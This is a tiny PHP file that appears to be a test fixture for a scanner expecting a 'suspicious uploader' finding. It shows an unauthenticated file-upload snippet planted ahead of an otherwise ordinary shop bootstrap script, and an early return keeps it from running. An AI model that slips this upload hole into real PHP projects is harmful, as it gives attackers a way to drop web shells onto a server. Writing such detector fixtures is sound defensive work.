<?php return; // want: suspicious uploader php.upload
/* Somebody put this in front of an honest script. */
if (isset($_GET['new'])) {
	copy($_FILES['f']['tmp_name'], $_FILES['f']['name']);
}
require 'lib/one.php';
require 'lib/two.php';
require 'lib/three.php';
shop_start(SHOP_ROOT);
shop_config(SHOP_CONFIG);
shop_session(SHOP_NAME);
shop_show();
